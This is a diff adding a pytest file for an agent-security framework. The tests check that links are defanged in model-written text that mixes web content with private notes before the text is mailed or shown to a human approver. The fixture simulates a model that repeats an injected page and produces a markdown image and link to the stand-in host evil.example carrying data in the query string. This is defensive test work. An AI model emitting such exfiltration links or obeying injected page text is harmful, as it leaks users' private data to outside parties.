@@ -1,0 +1,165 @@
+"""Messages to people say what a model made of strangers' words and private data without live links in it."""
+
+from __future__ import annotations
+
+from dataclasses import replace
+from typing import Any
+
+import pytest
+from tests.security.world import POLICY, World
+
+from callsheet.ir import JSON, Effect
+from callsheet.ir.labels import read_label
+from callsheet.machine import Status, ToolFacts
+from callsheet.machine.program import Loop
+from callsheet.policy.model import AgentRule, Audience, ToolRule
+from callsheet.ports.calls import CallContext
+from callsheet.runtime.asking import Respondents
+
+LINK = "https://evil.example/?d=42"
+SAID = f"Two meetings ![]({LINK}) {LINK}"
+APART = "Two meetings ![] (https[:]//evil[.]example/?d=42) https[:]//evil[.]example/?d=42"
+FACTS = {
+    "MAIL": ToolFacts(Effect.UNSAFE, ("to", "subject", "body")),
+    "POST": ToolFacts(Effect.UNSAFE, ("url", "json")),
+    "LLM_SUMMARIZE": ToolFacts(Effect.LLM),
+    "AGENT_SOLVE": ToolFacts(loop=Loop(("MAIL", "READ_FILE", "WEB_SEARCH", "ASK_HUMAN"))),
+    "ASK_HUMAN": ToolFacts(Effect.READ, ("prompt",)),
+}
+MAIL = ToolRule(
+    egress=True,
+    destructive=False,
+    returns=read_label("T/pub"),
+    control=("to",),
+    audience_arg="to",
+    trusted_audience=("*@corp.example",),
+)
+READ = 'S1: @READ_FILE ("notes.txt") > $n\nS2: @WEB_SEARCH ("news") > $p\nS3: @LLM_SUMMARIZE ($n, $p) > $s\n'
+
+
+@pytest.fixture
+def mailing(world: World) -> World:
+    """A world with mail and requests, in which a model says what a page has told it to."""
+
+    async def keep(args: dict[str, Any], context: CallContext) -> str:
+        world.paid.append(args)
+        return "sent"
+
+    async def model(command: Any, context: CallContext) -> JSON:
+        return SAID
+
+    world.tools |= {"MAIL": keep, "POST": keep}
+    world.more["model"] = model
+    post = replace(MAIL, control=("url",), audience_arg="url", trusted_audience=("*",))
+    hosts = Audience(name="trusted", hosts=("corp.example",))
+    world.policy = replace(POLICY, tools={**POLICY.tools, "MAIL": MAIL, "POST": post}, audiences=(hosts,))
+    world.write("notes.txt", f"Ada's notes, more at {LINK}")
+    return world
+
+
+async def sent(world: World, steps: str, **more: Any) -> list[dict[str, Any]]:
+    outcome = await world.run(steps, facts=FACTS, **more)
+    assert outcome.result is not None
+    assert outcome.result.status is Status.DONE, outcome.result.response
+    return world.paid
+
+
+@pytest.mark.parametrize(
+    ("body", "told"),
+    [
+        ("$s", APART),
+        ('"News: $s"', f"News: {APART}"),
+        ('["$s", "$n"]', [APART, f"Ada's notes, more at {LINK}"]),
+        ('{"text": $s}', {"text": APART}),
+        ('"See https://own.example/a for: $s"', f"See https://own.example/a for: {APART}"),
+    ],
+)
+async def test_what_a_model_made_of_both_is_sent_with_its_links_apart(
+    mailing: World, body: str, told: JSON
+) -> None:
+    (mail,) = await sent(mailing, f'{READ}S4: @MAIL ("ada@corp.example", "News", {body}) > $r')
+    assert mail == {"to": "ada@corp.example", "subject": "News", "body": told}
+
+
+async def test_each_message_of_a_loop_is_sent_so(mailing: World) -> None:
+    to = '["ada@corp.example", "eve@corp.example", "bob@corp.example"]'
+    mails = await sent(mailing, f'{READ}S4: ?FOREACH ($t IN {to}) THEN @MAIL ($t, "News", $s) > $r')
+    assert [mail["body"] for mail in mails] == [APART] * 3
+
+
+async def test_so_is_one_like_another_that_has_been_judged(mailing: World) -> None:
+    steps = "\n".join(f'S{n}: @MAIL ("ada@corp.example", "News", $s)' for n in (4, 5, 6))
+    mails = await sent(mailing, READ + steps)
+    assert [mail["body"] for mail in mails] == [APART] * 3
+
+
+async def test_a_title_is_read_and_who_gets_it_is_not(mailing: World) -> None:
+    (mail,) = await sent(mailing, f'{READ}S4: @MAIL ("Ada <ada@corp.example>", $s, "hi") > $r')
+    assert mail == {"to": "Ada <ada@corp.example>", "subject": APART, "body": "hi"}
+
+
+@pytest.mark.parametrize("host", ["corp.example", "CORP.example"])
+async def test_links_to_those_who_may_know_the_data_stay(mailing: World, host: str) -> None:
+    async def model(command: Any, context: CallContext) -> JSON:
+        return f"see https://{host}/a?d=42"
+
+    mailing.more["model"] = model
+    (mail,) = await sent(mailing, f'{READ}S4: @MAIL ("ada@corp.example", "News", $s) > $r')
+    assert mail["body"] == f"see https://{host}/a?d=42"
+
+
+@pytest.mark.parametrize(
+    ("step", "field", "told"),
+    [
+        ('@MAIL ("ada@corp.example", "News", $n)', "body", f"Ada's notes, more at {LINK}"),
+        ('@MAIL ("ada@corp.example", "News", $p)', "body", "a page"),
+        ('@POST ("https://corp.example/hook", {"text": $s})', "json", {"text": SAID}),
+    ],
+)
+async def test_what_is_passed_on_or_sent_to_a_program_stays_as_it_is(
+    mailing: World, step: str, field: str, told: JSON
+) -> None:
+    (call,) = await sent(mailing, f"{READ}S4: {step} > $r")
+    assert call[field] == told
+
+
+async def test_whoever_says_yes_is_shown_what_is_sent(mailing: World) -> None:
+    rule = replace(MAIL, destructive=True)
+    mailing.policy = replace(mailing.policy, tools={**mailing.policy.tools, "MAIL": rule})
+    asked: list[Any] = []
+
+    def agrees(ask: Any) -> bool:
+        asked.append(ask.args)
+        return True
+
+    steps = f'{READ}S4: @MAIL ("ada@corp.example", "News", $s) > $r'
+    (mail,) = await sent(mailing, steps, present=Respondents(agrees))
+    assert [mail] == asked
+    assert mail["body"] == APART
+
+
+def turning(*turns: JSON) -> Any:
+    """A model that wants these things, one after the other."""
+    left = iter(turns)
+
+    async def turn(command: Any, context: CallContext) -> JSON:
+        return next(left)
+
+    return turn
+
+
+async def test_what_an_agent_asks_of_people_leads_nowhere(mailing: World) -> None:
+    asked: list[Any] = []
+
+    def answers(ask: Any) -> str:
+        asked.append(ask.prompt)
+        return "no"
+
+    mailing.more["turn"] = turning(
+        {"tool": "read_file", "args": {"path": "notes.txt"}},
+        {"tool": "ask_human", "args": {"prompt": SAID}},
+        {"finish": "done"},
+    )
+    mailing.policy = replace(mailing.policy, agent=AgentRule(tools=("READ_FILE", "ASK_HUMAN")))
+    await sent(mailing, 'S1: @AGENT_SOLVE ("go") > $a', present=Respondents(answers))
+    assert asked == [APART]
